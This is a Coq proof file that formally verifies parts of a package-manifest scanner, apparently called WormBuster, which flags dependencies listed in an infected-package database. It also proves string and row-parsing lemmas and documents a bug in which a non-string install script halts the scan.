      filter (aboutDependency dep pkg) findings
      = [if Set_has versions ver then infected else target]
      /\ type infected = INFECTED_PACKAGE
      /\ severity infected = CRITICAL
      /\ depType infected = Some dep
      /\ type target = KNOWN_TARGET
      /\ severity target = WARNING
      /\ depType target = Some dep
      /\ infectedVersions target = Some versions)
  /\ (forall f pkg,
         In f findings -> package f = Some pkg ->
         Map_has infectedPackages pkg = true).
Proof.
  destruct (checkPackageJson_shape _ _ _ _ _ _ _ Hparsed Hreturns)
    as [scriptFindings [-> Hscripts]].
  rewrite Forall_forall in Hscripts. split.
  - intros dep declared pkg spec versions Hdep Hsection Hkeys Hpair Hget
      ver infected target.
    split; [|now repeat split].
    rewrite filter_app.
    rewrite (filter_none _ scriptFindings), app_nil_r.
    2:{ intros f Hf. unfold aboutDependency.
        now rewrite (Hscripts f Hf). }
    rewrite (filter_flat_map_one _ _ (fun d : string => d) _ dep Hdep).
    2:{ rewrite map_id. apply DEPENDENCY_TYPES_distinct. }
    2:{ intros dep' _ Hneq. apply filter_none. intros f Hf.
        apply sectionFindings_fields in Hf as [Hd _].
        unfold aboutDependency. rewrite Hd. cbn.
        apply String.eqb_neq in Hneq. now rewrite Hneq, andb_false_r. }
    unfold sectionFindings. rewrite Hsection. cbn [truthy Object_entries].
    rewrite (filter_flat_map_one _ _ fst _ (pkg, JString spec) Hpair Hkeys).
    2:{ intros entry _ Hneq. apply filter_none. intros f Hf.
        apply dependencyFindings_fields in Hf as [Hp _].
        unfold aboutDependency. rewrite Hp. cbn [optEq fst] in Hneq |- *.
        apply String.eqb_neq in Hneq. now rewrite Hneq. }
    unfold dependencyFindings. cbn [fst snd]. rewrite Hget.
    fold ver. fold infected. fold target. cbn [filter].
    assert (Habout : aboutDependency dep pkg
                       (if Set_has versions ver then infected else target)
                     = true).
    { unfold aboutDependency.
      destruct (Set_has versions ver); cbn; now rewrite !String.eqb_refl. }
    now rewrite Habout.
  - intros f pkg Hin Hpkg. apply in_app_or in Hin as [Hin|Hin].
    + apply in_flat_map in Hin as [dep [_ Hin]].
      apply sectionFindings_fields in Hin as [_ [pkg' [Hp Hm]]].
      rewrite Hpkg in Hp. now injection Hp as ->.
    + rewrite (Hscripts f Hin) in Hpkg. discriminate.
Qed.

Lemma forEach_total {A S : Type} (body : A -> S -> result S) (l : list A) :
  (forall x, In x l -> forall s, exists s', body x s = Ok s') ->
  forall s, exists s', forEach l body s = Ok s'.
Proof.
  induction l as [|x l IH]; intros H s; cbn; [now exists s|].
  destruct (H x (or_introl eq_refl) s) as [mid ->]. cbn.
  apply IH. intros y Hy. apply H. now right.
Qed.

Lemma lookup_In (props : list (string * json)) (key : string) (v : json) :
  lookup props key = Some v -> In (key, v) props.
Proof.
  induction props as [|[k w] props IH]; cbn; [discriminate|].
  destruct (String.eqb_spec k key) as [->|_].
  - intros [= ->]. now left.
  - intros H. right. now apply IH.
Qed.

(** On a manifest of the expected shape [checkPackageJson] returns. *)
Lemma checkPackageJson_returns
    (readFileSync : string -> result string)
    (JSON_parse : string -> result json)
    (filePath : string) (infectedPackages : IOCDatabase) (options : Options)
    (parsed : json) :
  readJson readFileSync JSON_parse filePath = Ok parsed ->
  manifestShape parsed ->
  exists findings,
    checkPackageJson readFileSync JSON_parse filePath infectedPackages options
    = Ok findings.
Proof.
  intros Hparsed [props [-> [Hdeps Hscripts]]].
  unfold checkPackageJson. rewrite Hparsed.
  destruct (forEach_total
              (checkDependencyType filePath infectedPackages (JObject props))
              DEPENDENCY_TYPES) with (s := @nil Finding) as [deps ->].
  { intros dep Hdep acc. unfold checkDependencyType. cbn [getProp bind].
    specialize (Hdeps dep Hdep).
    destruct (lookup props dep) as [[| | | | |declared]|];
      cbn [sectionShape] in Hdeps;
      try (rewrite Hdeps; now exists acc).
    cbn [truthy negb Object_entries bind].
    apply forEach_total. intros [pkg versionSpec] Hin acc'.
    unfold stringValued in Hdeps. rewrite Forall_forall in Hdeps.
    destruct (Hdeps _ Hin) as [spec Hspec]. cbn in Hspec. subst versionSpec.
    unfold checkDependency.
    destruct (Map_has infectedPackages pkg) eqn:Hhas; cbn [negb];
      [|now exists acc'].
    destruct (getVersions_has _ _ Hhas) as [versions [_ ->]]. cbn.
    destruct (Set_has versions (extractVersion spec)); eauto. }
  cbn [bind getProp].
  destruct (lookup props "scripts") as [[| | | | |scripts]|] eqn:Hlook;
    cbn [sectionShape] in Hscripts;
    try (rewrite Hscripts; now eexists).
  cbn [truthy].
  apply forEach_total. intros name _ acc. unfold checkScript.
  cbn [getProp bind].
  destruct (lookup scripts name) as [body|] eqn:Hbody; [|now exists acc].
  apply lookup_In in Hbody.
  unfold stringValued in Hscripts. rewrite Forall_forall in Hscripts.
  destruct (Hscripts _ Hbody) as [text Htext]. cbn in Htext. subst body.
  destruct (truthy (Some (JString text))); cbn [negb]; [|now exists acc].
  cbn [isSuspicious bind].
  destruct (existsb (includes text) SUSPICIOUS_SCRIPT_PATTERNS); eauto.
Qed.

(** On a parsed manifest of the expected shape [checkPackageJson]
    returns, and a pair [(pkg, spec)] declared in one of the four
    dependency sections with [pkg] in the database accounts for exactly
    one finding about that package and section: an [INFECTED_PACKAGE] of
    severity [CRITICAL] when the reduced version is in the infected set,
    and otherwise a [KNOWN_TARGET] of severity [WARNING] whose
    [infectedVersions] is the whole version set of the package; either
    carries the section as [depType].  No finding names a package that is
    not in the database. *)
Theorem checkPackageJson_classifies
    (readFileSync : string -> result string)
    (JSON_parse : string -> result json)
    (filePath : string) (infectedPackages : IOCDatabase) (options : Options)
    (parsed : json)
    (Hparsed : readJson readFileSync JSON_parse filePath = Ok parsed)
    (Hshape : manifestShape parsed) :
  exists findings,
    checkPackageJson readFileSync JSON_parse filePath infectedPackages options
    = Ok findings
    /\ (forall dep declared pkg spec versions,
          In dep DEPENDENCY_TYPES ->
          getProp (Some parsed) dep = Ok (Some (JObject declared)) ->
          NoDup (map fst declared) ->
          In (pkg, JString spec) declared ->
          Map_get infectedPackages pkg = Some versions ->
          let ver := extractVersion spec in
          let infected :=
            infectedPackage pkg ver (JString spec) dep filePath in
          let target :=
            knownTarget pkg ver (JString spec) versions dep filePath in
          filter (aboutDependency dep pkg) findings
          = [if Set_has versions ver then infected else target]
          /\ type infected = INFECTED_PACKAGE
          /\ severity infected = CRITICAL
          /\ depType infected = Some dep
          /\ type target = KNOWN_TARGET
          /\ severity target = WARNING
          /\ depType target = Some dep
          /\ infectedVersions target = Some versions)
    /\ (forall f pkg,
          In f findings -> package f = Some pkg ->
          Map_has infectedPackages pkg = true).
Proof.
  destruct (checkPackageJson_returns readFileSync JSON_parse filePath
              infectedPackages options parsed Hparsed Hshape)
    as [findings Hreturns].
  exists findings. split; [exact Hreturns|].
  exact (checkPackageJson_findings readFileSync JSON_parse filePath
           infectedPackages options parsed findings Hparsed Hreturns).
Qed.

Lemma checkPackageJson_classifies_witness :
  exists findings,
    checkPackageJson
      (fun _ => Ok "{ ... }")
      (fun _ =>
         Ok (JObject
               [("name", JString "test-project");
                ("dependencies",
                 JObject [("infected-pkg", JString "^1.0.0");
                          ("targeted-pkg", JString "^1.0.0")])]))
      "/repo/package.json"
      [("infected-pkg", ["1.0.0"]); ("targeted-pkg", ["2.0.0"])]
      (mkOptions false)
    = Ok findings
    /\ filter (aboutDependency "dependencies" "infected-pkg") findings
       = [infectedPackage "infected-pkg" "1.0.0" (JString "^1.0.0")
            "dependencies" "/repo/package.json"]
    /\ filter (aboutDependency "dependencies" "targeted-pkg") findings
       = [knownTarget "targeted-pkg" "1.0.0" (JString "^1.0.0") ["2.0.0"]
            "dependencies" "/repo/package.json"].
Proof.
  assert (Hshape :
            manifestShape
              (JObject
                 [("name", JString "test-project");
                  ("dependencies",
                   JObject [("infected-pkg", JString "^1.0.0");
                            ("targeted-pkg", JString "^1.0.0")])])).
  { eexists. split; [reflexivity|]. split; [|reflexivity].
    intros dep [<-|[<-|[<-|[<-|[]]]]]; cbn; try reflexivity.
    repeat constructor; eexists; reflexivity. }
  destruct (checkPackageJson_classifies
              (fun _ => Ok "{ ... }")
              (fun _ =>
                 Ok (JObject
                       [("name", JString "test-project");
                        ("dependencies",
                         JObject [("infected-pkg", JString "^1.0.0");
                                  ("targeted-pkg", JString "^1.0.0")])]))
              "/repo/package.json"
              [("infected-pkg", ["1.0.0"]); ("targeted-pkg", ["2.0.0"])]
              (mkOptions false) _ eq_refl Hshape)
    as [findings [Hreturns [H _]]].
  exists findings. split; [exact Hreturns|].
  specialize (H "dependencies"
                [("infected-pkg", JString "^1.0.0");
                 ("targeted-pkg", JString "^1.0.0")]).
  assert (Hkeys : NoDup (map fst [("infected-pkg", JString "^1.0.0");
                                  ("targeted-pkg", JString "^1.0.0")]))
    by (repeat (constructor; [cbn; intuition discriminate|]); constructor).
  split.
  - apply (H "infected-pkg" "^1.0.0" ["1.0.0"]);
      [cbn; tauto | reflexivity | exact Hkeys | cbn; tauto | reflexivity].
  - apply (H "targeted-pkg" "^1.0.0" ["2.0.0"]);
      [cbn; tauto | reflexivity | exact Hkeys | cbn; tauto | reflexivity].
Defined.

(** Only the parse is guarded.  The loops over the sections and over the
    scripts run after the [try], so what they throw leaves the call: the
    scan of a tree that holds such a manifest stops with that error, and
    the artifact in the same directory is not reported either. *)
Lemma scan_stops_at_unguarded_manifest (options : WormBuster.CliOptions) :
  WormBuster.scanDirectories (fun _ => Ok "{ ... }")
    (fun _ =>
       Ok (JObject
             [("dependencies", JObject [("evil", JString "1.0.0")]);
              ("scripts", JObject [("preinstall", JBool true)])]))
    (fun _ => true) posix_join (fun _ => Throw "ENOENT")
    (fun _ => Some [File "package.json" true; File "setup_bun.js" true])
    [("evil", ["1.0.0"])] options ["/repo"]
  = Throw "scriptContent.includes is not a function".
Proof. reflexivity. Qed.

(** C2: the manifest
    [{"dependencies":{"evil":"1.0.0"},"scripts":{"preinstall":true}}]
    parses and declares the pair [evil], [1.0.0] of the database.  The
    loop over the dependency sections pushes the one [INFECTED_PACKAGE]
    finding for it, as it does alone for the same manifest without
    [scripts]; then [scriptContent.includes] is called on [true], outside
    the [try], and [checkPackageJson] throws instead of returning the
    finding, whatever the options are. *)
Theorem checkPackageJson_throws_after_push
    (content : string) (options : Options) :
  let filePath := "/repo/package.json" in
  let infectedPackages := [("evil", ["1.0.0"])] in
  let declared := ("dependencies", JObject [("evil", JString "1.0.0")]) in
  let manifest :=
    JObject [declared; ("scripts", JObject [("preinstall", JBool true)])] in
  let finding :=
    infectedPackage "evil" "1.0.0" (JString "1.0.0") "dependencies"
      filePath in
  readJson (fun _ => Ok content) (fun _ => Ok manifest) filePath
  = Ok manifest
  /\ forEach DEPENDENCY_TYPES
       (checkDependencyType filePath infectedPackages manifest) []
     = Ok [finding]
  /\ checkPackageJson (fun _ => Ok content) (fun _ => Ok (JObject [declared]))
       filePath infectedPackages options
     = Ok [finding]
  /\ checkPackageJson (fun _ => Ok content) (fun _ => Ok manifest) filePath
       infectedPackages options
     = Throw "scriptContent.includes is not a function".
Proof.
  cbv zeta. split; [reflexivity|]. split; [reflexivity|]. split.
  - reflexivity.
  - unfold checkPackageJson. cbn [readJson bind].
    change (forEach DEPENDENCY_TYPES _ [])
      with (@Ok (list Finding)
              [infectedPackage "evil" "1.0.0" (JString "1.0.0")
                 "dependencies" "/repo/package.json"]).
    reflexivity.
Qed.

(** ** Strings *)

Lemma split1_cons (c a : ascii) (s : string) :
  split_from (String c "") 0 (String a s)
  = if Ascii.eqb a c then "" :: split_from (String c "") 0 s
    else match split_from (String c "") 0 s with
         | piece :: pieces => String a piece :: pieces
         | [] => [String a ""]
         end.
Proof. cbn [split_from startsWith]. now rewrite startsWith_empty, andb_true_r. Qed.

Lemma lacks_cons (ch a : ascii) (s : string) :
  lacks ch (String a s) = true -> Ascii.eqb a ch = false /\ lacks ch s = true.
Proof.
  unfold lacks. cbn. intros H. apply andb_true_iff in H as [Ha Hs].
  split; [now apply negb_true_iff in Ha | exact Hs].
Qed.

Lemma lacks_app (ch : ascii) (s t : string) :
  lacks ch (s ++ t) = lacks ch s && lacks ch t.
Proof.
  unfold lacks. induction s as [|a s IH]; cbn; [reflexivity|].
  now rewrite IH, andb_assoc.
Qed.

(** A piece without the separator is read up to the next separator. *)
Lemma split1_app (c : ascii) (pre rest : string) :
  lacks c pre = true ->
  split_from (String c "") 0 (pre ++ String c rest)
  = pre :: split_from (String c "") 0 rest.
Proof.
  induction pre as [|a pre IH]; intros H.
  - cbn [append]. now rewrite split1_cons, Ascii.eqb_refl.
  - apply lacks_cons in H as [Ha Hp]. cbn [append].
    now rewrite split1_cons, Ha, (IH Hp).
Qed.

Lemma split1_whole (c : ascii) (s : string) :
  lacks c s = true -> split_from (String c "") 0 s = [s].
Proof.
  induction s as [|a s IH]; intros H; [reflexivity|].
  apply lacks_cons in H as [Ha Hs].
  now rewrite split1_cons, Ha, (IH Hs).
Qed.

Lemma split_join_lines (lines : list string) :
  lines <> [] ->
  Forall (fun l => lacks LFCHAR l = true) lines ->
  split (join LF lines) LF = lines.
Proof.
  unfold split, LF. fold LFCHAR.
  induction lines as [|l lines IH]; intros Hne Hl; [contradiction|].
  apply Forall_cons_iff in Hl as [Hl Hrest].
  destruct lines as [|l' lines].
  - cbn [join]. now apply split1_whole.
  - cbn [join] in IH |- *. cbn [append].
    rewrite split1_app by exact Hl. f_equal. apply IH; [discriminate|exact Hrest].
Qed.

Lemma includes_skip (p : ascii) (pat pre s : string) :
  lacks p pre = true ->
  includes (pre ++ s) (String p pat) = includes s (String p pat).
Proof.
  induction pre as [|a pre IH]; intros H; [reflexivity|].
  apply lacks_cons in H as [Ha Hp]. cbn [append includes startsWith].
  rewrite Ha. cbn [andb orb]. now apply IH.
Qed.

Lemma includes_lacks (p : ascii) (pat s : string) :
  lacks p s = true -> includes s (String p pat) = false.
Proof.
  induction s as [|a s IH]; intros H; [reflexivity|].
  apply lacks_cons in H as [Ha Hs]. cbn [includes startsWith].
  rewrite Ha. cbn [andb orb]. apply IH; exact Hs.
Qed.

Lemma includes_present (ch : ascii) (pre rest : string) :
  includes (pre ++ String ch rest) (String ch "") = true.
Proof.
  induction pre as [|a pre IH]; cbn [append includes startsWith].
  - now rewrite Ascii.eqb_refl, startsWith_empty.
  - rewrite IH. apply orb_true_r.
Qed.

(** A prefix of a pattern cannot be completed across a character that the
    pattern does not have. *)
Lemma startsWith_blocked (x : ascii) (pat c rest : string) :
  lacks x pat = true ->
  startsWith c pat = false ->
  startsWith (c ++ String x rest) pat = false.
Proof.
  revert pat. induction c as [|a c IH]; intros pat Hx Hc.
  - destruct pat as [|p pat]; [discriminate Hc|].
    apply lacks_cons in Hx as [Hp _]. cbn.
    now rewrite Ascii.eqb_sym, Hp.
  - destruct pat as [|p pat]; [discriminate Hc|].
    apply lacks_cons in Hx as [_ Hpat]. cbn in Hc |- *.
    destruct (Ascii.eqb a p); [|reflexivity]. cbn in Hc |- *.
    now apply IH.
Qed.

Lemma trimEnd_space (s : string) : trimEnd (s ++ " ") = trimEnd s.
Proof. induction s as [|a s IH]; [reflexivity|]. cbn. now rewrite IH. Qed.

Lemma trimEnd_keep (a b : string) :
  a <> "" -> trimEnd a = a -> trimEnd (a ++ b) = a ++ trimEnd b.
Proof.
  induction a as [|x a IH]; intros Hne Ha; [contradiction|].
  cbn [append trimEnd] in Ha |- *.
  destruct a as [|y a].
  - cbn in Ha |- *. destruct (isWhiteSpace x); [discriminate Ha|reflexivity].
  - assert (Ht : trimEnd (String y a) = String y a).
    { destruct (isWhiteSpace x && isEmpty (trimEnd (String y a)));
        [discriminate Ha | now injection Ha]. }
    rewrite (IH ltac:(discriminate) Ht). cbn [append isEmpty].
    now rewrite andb_false_r.
Qed.

Lemma trimEnd_head (s : string) :
  trimEnd s = ""
  \/ exists a t u, s = String a t /\ trimEnd s = String a u.
Proof.
  destruct s as [|a s]; [now left|]. cbn.
  destruct (isWhiteSpace a && isEmpty (trimEnd s)); [now left|].
  right. now exists a, s, (trimEnd s).
Qed.

Lemma cleanCell_facts (c : string) :
  cleanCell c = true ->
  c <> "" /\ headChar isWhiteSpace c = false /\ trimEnd c = c
  /\ lacks PIPE c = true /\ lacks TABCHAR c = true /\ lacks LFCHAR c = true.
Proof.
  unfold cleanCell, plainCell. intros H.
  apply andb_true_iff in H as [H Htrim].
  apply andb_true_iff in H as [H Hhead].
  apply andb_true_iff in H as [H Hempty].
  apply andb_true_iff in H as [H Hlf].
  apply andb_true_iff in H as [Hpipe Htab].
  repeat split; auto.
  - intros E. rewrite E in Hempty. discriminate.
  - now apply negb_true_iff.
  - now apply String.eqb_eq.
Qed.

Lemma trimStart_fixed (c rest : string) :
  c <> "" -> headChar isWhiteSpace c = false ->
  trimStart (c ++ rest) = c ++ rest.
Proof. destruct c as [|a c]; [contradiction|]. cbn. now intros _ ->. Qed.

Lemma trim_clean (c : string) : cleanCell c = true -> trim c = c.
Proof.
  intros H. apply cleanCell_facts in H as [Hne [Hh [Ht _]]].
  unfold trim. destruct c as [|a c]; [contradiction|].
  cbn [trimStart]. cbn in Hh. rewrite Hh. exact Ht.
Qed.

(** A clean cell between two spaces trims to itself. *)
Lemma trim_padded (c : string) :
  cleanCell c = true -> trim (" " ++ c ++ " ") = c.
Proof.
  intros H. pose proof (trim_clean c H) as Htrim.
  apply cleanCell_facts in H as [Hne [Hh [Ht _]]].
  unfold trim. cbn [append trimStart]. cbn [isWhiteSpace nat_of_ascii].
  change (trimEnd (trimStart (c ++ " ")) = c).
  rewrite trimStart_fixed by assumption.
  now rewrite trimEnd_space.
Qed.

(** ** Rows of the database file *)

Lemma append_empty_r (s : string) : s ++ "" = s.
Proof. induction s as [|a s IH]; cbn; [reflexivity | now rewrite IH]. Qed.

Lemma append_cons_assoc (c : string) (x : ascii) (rest : string) :
  c ++ String x rest = (c ++ String x "") ++ rest.
Proof. induction c as [|a c IH]; cbn; [reflexivity | now rewrite IH]. Qed.

Lemma includes_startsWith_false (s pat : string) :
  includes s pat = false -> startsWith s pat = false.
Proof.
  destruct s; cbn; intros H; now apply orb_false_iff in H as [H _].
Qed.

Lemma startsWith_cons (a b : ascii) (s p : string) :
  startsWith (String a s) (String b p) = Ascii.eqb a b && startsWith s p.
Proof. reflexivity. Qed.

(** In a table row a [|] is followed by a space or ends the line, so a
    pattern [|pat] occurs only where a cell, with the space before it,
    begins with [pat]. *)
Lemma tableCells_includes (pat : string) (cells : list string) :
  pat <> "" ->
  Forall (fun c => lacks PIPE c = true
                   /\ forall rest,
                        startsWith (String " " (c ++ String " " rest)) pat
                        = false) cells ->
  includes ("|" ++ tableCells cells) (String PIPE pat) = false.
Proof.
  intros Hpat. induction 1 as [|c cells [Hc Hstart] _ IH].
  - cbn. destruct pat; [contradiction | reflexivity].
  - cbn [tableCells append] in IH |- *. cbn [includes].
    apply orb_false_iff. split.
    + rewrite startsWith_cons. now rewrite Hstart, andb_false_r.
    + change (String " " (c ++ String " " (String "|" (tableCells cells))))
        with (" " ++ (c ++ String " " (String "|" (tableCells cells)))).
      rewrite (append_cons_assoc c). change (" " ++ (c ++ " ") ++ ?x)
        with ((" " ++ c ++ " ") ++ x).
      rewrite includes_skip; [exact IH|].
      cbn [append]. unfold lacks in *. cbn [allChars].
      change (allChars (fun a => negb (Ascii.eqb a PIPE)) (c ++ " "))
        with (lacks PIPE (c ++ " ")).
      rewrite lacks_app. unfold lacks. now rewrite Hc.
Qed.

Lemma split_tableCells (cells : list string) :
  Forall (fun c => lacks PIPE c = true) cells ->
  split_from "|" 0 (tableCells cells)
  = (map (fun c => (" " ++ c ++ " ")%string) cells ++ [""])%list.
Proof.
  unfold PIPE. induction 1 as [|c cells Hc _ IH]; [reflexivity|].
  cbn [tableCells map app append].
  change (String " " (c ++ String " " (String "|" (tableCells cells))))
    with (" " ++ (c ++ String " " (String "|" (tableCells cells)))).
  rewrite (append_cons_assoc c).
  change (" " ++ (c ++ " ") ++ ?x) with ((" " ++ c ++ " ") ++ x).
  rewrite (split1_app "|"); [now rewrite IH|].
  cbn [append]. unfold lacks in *. cbn [allChars].
  change (allChars (fun a => negb (Ascii.eqb a "|")) (c ++ " "))
    with (lacks "|" (c ++ " ")).
  rewrite lacks_app. unfold lacks. now rewrite Hc.
Qed.

Lemma cleanRow_facts (r : Row) :
  cleanRow r = true ->
  cleanCell (r_name r) = true /\ cleanCell (r_version r) = true
  /\ Forall (fun c => plainCell c = true) (r_extra r)
  /\ includes (r_name r) "Package" = false
  /\ Forall (fun c => startsWith c "Package" = false)
       (r_version r :: r_extra r).
Proof.
  unfold cleanRow. intros H.
  apply andb_true_iff in H as [H Hstarts].
  apply andb_true_iff in H as [H Hpkg].
  apply andb_true_iff in H as [H Hextra].
  apply andb_true_iff in H as [Hname Hversion].
  repeat split; auto.
  - apply Forall_forall. now apply forallb_forall.
  - now apply negb_true_iff.
  - apply Forall_forall. intros c Hc. apply negb_true_iff.
    revert c Hc. now apply forallb_forall.
Qed.

Lemma plainCell_facts (c : string) :
  plainCell c = true ->
  lacks PIPE c = true /\ lacks TABCHAR c = true /\ lacks LFCHAR c = true.
Proof.
  unfold plainCell. intros H.
  apply andb_true_iff in H as [H Hlf]. now apply andb_true_iff in H as [Hp Ht].
Qed.

Lemma cleanCell_plain (c : string) : cleanCell c = true -> plainCell c = true.
Proof.
  unfold cleanCell. intros H.
  apply andb_true_iff in H as [H _]. apply andb_true_iff in H as [H _].
  now apply andb_true_iff in H as [H _].
Qed.

Lemma row_cells_plain (r : Row) :
  cleanRow r = true ->
  Forall (fun c => plainCell c = true) (r_name r :: r_version r :: r_extra r).
Proof.
  intros H. apply cleanRow_facts in H as [Hn [Hv [He _]]].
  repeat constructor; auto using cleanCell_plain.
Qed.

Lemma lacks_padded (ch : ascii) (c : string) :
  Ascii.eqb " " ch = false -> lacks ch c = true ->
  lacks ch (" " ++ c ++ " ") = true.
Proof.
  intros Hsp Hc. cbn [append]. unfold lacks in *. cbn [allChars].
  change (allChars (fun a => negb (Ascii.eqb a ch)) (c ++ " "))
    with (lacks ch (c ++ " ")).
  rewrite lacks_app. unfold lacks. cbn [allChars]. now rewrite Hsp, Hc.
Qed.

Lemma lacks_tableCells (ch : ascii) (cells : list string) :
  Ascii.eqb " " ch = false -> Ascii.eqb "|" ch = false ->
  Forall (fun c => lacks ch c = true) cells ->
  lacks ch (tableCells cells) = true.
Proof.
  intros Hsp Hpipe. induction 1 as [|c cells Hc _ IH]; [reflexivity|].
  cbn [tableCells]. rewrite !lacks_app, IH, Hc. unfold lacks. cbn [allChars].
  now rewrite Hsp, Hpipe.
Qed.

Lemma lacks_tabbed (ch : ascii) (cells : list string) :
  Ascii.eqb TABCHAR ch = false ->
  Forall (fun c => lacks ch c = true) cells ->
  lacks ch (tabbed cells) = true.
Proof.
  intros Htab. induction 1 as [|c cells Hc _ IH]; [reflexivity|].
  cbn [tabbed]. rewrite !lacks_app, IH, Hc. unfold lacks, TAB.
  cbn [allChars]. fold TABCHAR. now rewrite Htab.
Qed.

(** A row of the table, read in table mode, adds its name and version. *)
Lemma loadLine_tableRow (r : Row) (db : IOCDatabase) :
  cleanRow r = true ->
  loadLine (true, db) (tableRow r)
  = (true, addPackage db (r_name r) (r_version r)).
Proof.
  intros Hr. pose proof (row_cells_plain r Hr) as Hplain.
  apply cleanRow_facts in Hr as [Hn [Hv [_ [Hpkg Hstarts]]]].
  assert (Hpipes : Forall (fun c => lacks PIPE c = true)
                     (r_name r :: r_version r :: r_extra r)).
  { eapply Forall_impl; [|exact Hplain]. intros c Hc.
    now apply plainCell_facts in Hc. }
  unfold loadLine, tableRow.
  change "| Package" with (String PIPE " Package").
  change "|---" with (String PIPE "---").
  rewrite !tableCells_includes; try discriminate.
  - cbn [orb andb append startsWith]. rewrite Ascii.eqb_refl, startsWith_empty.
    cbn [andb]. change (split (String "|" ?x) "|") with
      (split_from "|" 0 (String "|" x)).
    rewrite split1_cons, Ascii.eqb_refl, split_tableCells by exact Hpipes.
    cbn [map app filter]. rewrite !trim_padded by assumption.
    pose proof (cleanCell_facts _ Hn) as [Hnn _].
    pose proof (cleanCell_facts _ Hv) as [Hvn _].
    assert (En : nonEmpty (r_name r) = true)
      by (destruct (r_name r); [contradiction | reflexivity]).
    assert (Ev : nonEmpty (r_version r) = true)
      by (destruct (r_version r); [contradiction | reflexivity]).
    change (trim "") with "". cbn [nonEmpty isEmpty negb].
    fold (nonEmpty (r_name r)). fold (nonEmpty (r_version r)).
    rewrite En, Ev. cbn [List.length Nat.leb nth andb].
    fold (nonEmpty (r_name r)). fold (nonEmpty (r_version r)).
    now rewrite En, Ev, Hpkg.
  - eapply Forall_impl; [|exact Hpipes]. intros c Hc. split; [exact Hc|].
    intros rest. reflexivity.
  - apply Forall_cons.
    + split; [now inversion Hpipes|]. intros rest. rewrite startsWith_cons.
      rewrite Ascii.eqb_refl. cbn [andb]. apply startsWith_blocked;
        [reflexivity | now apply includes_startsWith_false].
    + inversion Hpipes as [|? ? _ Hrest]; subst.
      clear - Hrest Hstarts. revert Hrest.
      induction Hstarts as [|c cells Hc _ IH]; intros Hrest; constructor.
      * split; [now inversion Hrest|]. intros rest. rewrite startsWith_cons.
        rewrite Ascii.eqb_refl. cbn [andb]. now apply startsWith_blocked.
      * apply IH. now inversion Hrest.
Qed.

Lemma tabbed_cons (c : string) (cells : list string) :
  tabbed (c :: cells) = String TABCHAR (c ++ tabbed cells).
Proof. reflexivity. Qed.

Lemma trimEnd_cons (x : ascii) (s : string) :
  trimEnd s <> "" -> trimEnd (String x s) = String x (trimEnd s).
Proof.
  intros H. cbn. destruct (trimEnd s); [contradiction|].
  cbn. now rewrite andb_false_r.
Qed.

Lemma append_nonempty (a b : string) : a <> "" -> a ++ b <> "".
Proof. destruct a; [contradiction | discriminate]. Qed.

(** The fields of a tab-separated row after the line has been trimmed. *)
Lemma split_tsvRow (r : Row) :
  cleanRow r = true ->
  exists fields,
    split (trim (tsvRow r)) TAB = r_name r :: r_version r :: fields.
Proof.
  intros Hr. apply cleanRow_facts in Hr as [Hn [Hv _]].
  apply cleanCell_facts in Hn as [Hnn [Hnh [Hnt [_ [Hntab _]]]]].
  apply cleanCell_facts in Hv as [Hvn [_ [Hvt [_ [Hvtab _]]]]].
  unfold tsvRow, trim. rewrite trimStart_fixed by assumption.
  rewrite tabbed_cons, trimEnd_keep by assumption.
  rewrite trimEnd_cons; rewrite trimEnd_keep by assumption;
    [|now apply append_nonempty].
  unfold split, TAB. fold TABCHAR. rewrite split1_app by exact Hntab.
  destruct (trimEnd_head (tabbed (r_extra r))) as [->|[a [t [u [Ht ->]]]]].
  - rewrite append_empty_r, split1_whole by exact Hvtab. now exists [].
  - destruct (r_extra r) as [|c cells]; [discriminate Ht|].
    rewrite tabbed_cons in Ht. injection Ht as <- _.
    rewrite split1_app by exact Hvtab. eauto.
Qed.

(** A tab-separated row adds its name and version, in table mode or
    not. *)
Lemma loadLine_tsvRow (r : Row) (inTable : bool) (db : IOCDatabase) :
  cleanRow r = true ->
  loadLine (inTable, db) (tsvRow r)
  = (inTable, addPackage db (r_name r) (r_version r)).
Proof.
  intros Hr. destruct (split_tsvRow r Hr) as [fields Hsplit].
  pose proof (row_cells_plain r Hr) as Hplain.
  apply cleanRow_facts in Hr as [Hn [Hv _]].
  assert (Hpipe : lacks PIPE (tsvRow r) = true).
  { unfold tsvRow. rewrite lacks_app.
    inversion Hplain as [|? ? Hname Hrest]; subst.
    apply plainCell_facts in Hname as [-> _]. cbn [andb].
    apply lacks_tabbed; [reflexivity|].
    eapply Forall_impl; [|exact Hrest]. intros c Hc.
    now apply plainCell_facts in Hc. }
  pose proof (trim_clean _ Hn) as Htn. pose proof (trim_clean _ Hv) as Htv.
  apply cleanCell_facts in Hn as [Hnn [_ [_ [Hnp _]]]].
  apply cleanCell_facts in Hv as [Hvn _].
  unfold loadLine.
  change "| Package" with (String PIPE " Package").
  change "|---" with (String PIPE "---").
  rewrite !includes_lacks by exact Hpipe. cbn [orb].
  assert (Hstart : startsWith (tsvRow r) "|" = false).
  { unfold tsvRow. destruct (r_name r) as [|a n]; [contradiction|].
    apply lacks_cons in Hnp as [Ha _]. cbn [append].
    rewrite startsWith_cons. unfold PIPE in Ha. now rewrite Ha. }
  rewrite Hstart, andb_false_r.
  assert (Htab : includes (tsvRow r) TAB = true).
  { unfold tsvRow. rewrite tabbed_cons. apply includes_present. }
  rewrite Htab, Hsplit. cbn [List.length Nat.leb nth]. rewrite Htn, Htv.
  assert (En : nonEmpty (r_name r) = true)
    by (destruct (r_name r); [contradiction | reflexivity]).
  assert (Ev : nonEmpty (r_version r) = true)
    by (destruct (r_version r); [contradiction | reflexivity]).
  now rewrite En, Ev.
Qed.

(** ** The database *)

Lemma Map_get_set_same (m : IOCDatabase) (k : string) (v : VersionSet) :
  Map_get (Map_set m k v) k = Some v.
Proof.
  induction m as [|[k' v'] m IH]; cbn.
  - now rewrite String.eqb_refl.
  - destruct (String.eqb_spec k' k) as [->|Hne]; cbn.
    + now rewrite String.eqb_refl.
    + apply String.eqb_neq in Hne. now rewrite Hne.
Qed.

Lemma Map_get_set_other (m : IOCDatabase) (k k' : string) (v : VersionSet) :
  k' <> k -> Map_get (Map_set m k v) k' = Map_get m k'.
Proof.
  intros Hne. induction m as [|[k0 v0] m IH]; cbn.
  - apply not_eq_sym, String.eqb_neq in Hne. now rewrite Hne.
  - destruct (String.eqb_spec k0 k) as [->|Hk]; cbn.
    + apply not_eq_sym, String.eqb_neq in Hne. now rewrite Hne.
    + now rewrite IH.
Qed.

Lemma Set_has_add_same (versions : VersionSet) (v : string) :
  Set_has (Set_add versions v) v = true.
Proof.
  unfold Set_add. destruct (Set_has versions v) eqn:E; [exact E|].
